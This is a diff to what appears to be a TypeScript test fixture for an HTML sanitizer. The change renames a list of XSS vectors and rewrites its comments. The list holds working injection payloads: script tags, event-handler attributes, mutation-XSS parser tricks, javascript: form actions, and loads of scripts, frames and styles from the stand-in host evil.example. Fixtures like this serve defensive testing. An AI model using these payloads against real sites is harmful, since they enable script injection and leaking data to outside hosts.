@@ -1,6 +1,6 @@
-/** What every vector does when it runs: it says so in the title of the page. */
+/** The payload: it sets the title of the page. */
 const run = "document.title='ran'";
-const away = 'https://evil.example';
+const foreign = 'https://evil.example';
 
 const handlers = ['onerror', 'onload', 'onclick', 'onfocus', 'onmouseover', 'onanimationstart', 'onpointerenter'];
 const schemes = [
@@ -19,13 +19,13 @@ const schemes = [
   `/\\evil.example/x`,
 ];
 
-/** Ways by which words of others have run as programs or called home. */
-export const vectors: readonly string[] = [
+/** Known HTML payloads that run a script or load a foreign address. */
+export const xssVectors: readonly string[] = [
   `<script>${run}</script>`,
-  `<script src="${away}/a.js"></script>`,
+  `<script src="${foreign}/a.js"></script>`,
   `<scr<script>ipt>${run}</scr</script>ipt>`,
   `<img src=x onerror=${run}>`,
-  `<img src="${away}/pixel.gif">`,
+  `<img src="${foreign}/pixel.gif">`,
   `<img src=x onerror="&#100;ocument.title='ran'">`,
   `<svg onload="${run}"></svg>`,
   `<svg><script>${run}</script></svg>`,
@@ -35,29 +35,29 @@ export const vectors: readonly string[] = [
   `<math><mtext></form><form><mglyph><style></math><img src onerror="${run}">`,
   `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
   `<template><img src=x onerror="${run}"></template>`,
-  `<iframe src="${away}"></iframe>`,
+  `<iframe src="${foreign}"></iframe>`,
   `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
-  `<object data="${away}/o.swf"></object>`,
-  `<embed src="${away}/e.swf">`,
-  `<applet code="x" archive="${away}/a.jar"></applet>`,
-  `<link rel=stylesheet href="${away}/s.css">`,
-  `<link rel=prefetch href="${away}/p">`,
-  `<style>@import "${away}/i.css"; p { background: url(${away}/b.gif) }</style>`,
-  `<p style="background:url(${away}/c.gif)">styled</p>`,
+  `<object data="${foreign}/o.swf"></object>`,
+  `<embed src="${foreign}/e.swf">`,
+  `<applet code="x" archive="${foreign}/a.jar"></applet>`,
+  `<link rel=stylesheet href="${foreign}/s.css">`,
+  `<link rel=prefetch href="${foreign}/p">`,
+  `<style>@import "${foreign}/i.css"; p { background: url(${foreign}/b.gif) }</style>`,
+  `<p style="background:url(${foreign}/c.gif)">styled</p>`,
   `<p style="behavior:url(#x)">styled</p>`,
-  `<base href="${away}/">`,
-  `<meta http-equiv="refresh" content="0;url=${away}">`,
-  `<form action="${away}"><button formaction="javascript:${run}">go</button></form>`,
+  `<base href="${foreign}/">`,
+  `<meta http-equiv="refresh" content="0;url=${foreign}">`,
+  `<form action="${foreign}"><button formaction="javascript:${run}">go</button></form>`,
   `<input autofocus onfocus="${run}">`,
   `<details open ontoggle="${run}"><summary>x</summary></details>`,
-  `<video src="${away}/v.mp4" onerror="${run}"><source onerror="${run}"></video>`,
-  `<audio src="${away}/a.mp3" autoplay></audio>`,
-  `<body onload="${run}" background="${away}/b.gif">`,
-  `<table background="${away}/t.gif"><tr><td background="${away}/u.gif">cell</td></tr></table>`,
+  `<video src="${foreign}/v.mp4" onerror="${run}"><source onerror="${run}"></video>`,
+  `<audio src="${foreign}/a.mp3" autoplay></audio>`,
+  `<body onload="${run}" background="${foreign}/b.gif">`,
+  `<table background="${foreign}/t.gif"><tr><td background="${foreign}/u.gif">cell</td></tr></table>`,
   `<marquee onstart="${run}">m</marquee>`,
-  `<picture><source srcset="${away}/w.webp"><img src="${away}/i.png" onerror="${run}"></picture>`,
-  `<img srcset="${away}/s.png 2x" src="${away}/t.png">`,
-  `<a href="https://example.org" ping="${away}" target=_blank onclick="${run}">ping</a>`,
+  `<picture><source srcset="${foreign}/w.webp"><img src="${foreign}/i.png" onerror="${run}"></picture>`,
+  `<img srcset="${foreign}/s.png 2x" src="${foreign}/t.png">`,
+  `<a href="https://example.org" ping="${foreign}" target=_blank onclick="${run}">ping</a>`,
   `<!--><img src=x onerror="${run}">-->`,
   `<![CDATA[<img src=x onerror="${run}">]]>`,
   `<p data-slate-fragment="${Buffer.from(encodeURIComponent('[{"type":"x"}]')).toString('base64')}">f</p>`,
